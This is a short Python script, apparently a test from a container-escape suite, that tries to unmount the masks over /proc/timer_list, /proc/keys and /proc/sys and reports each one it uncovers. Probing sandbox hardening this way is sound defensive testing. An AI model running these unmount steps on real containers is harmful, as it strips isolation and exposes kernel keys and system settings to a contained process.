"""Takes away the mounts that hide files of /proc.

group: escape
weaken: filter caps
"""

from attack import *

for path in (b"/proc/timer_list", b"/proc/keys", b"/proc/sys"):
    if syscall(NR["umount2"], path, 2) == 0:
        flag(path.decode() + " is uncovered")
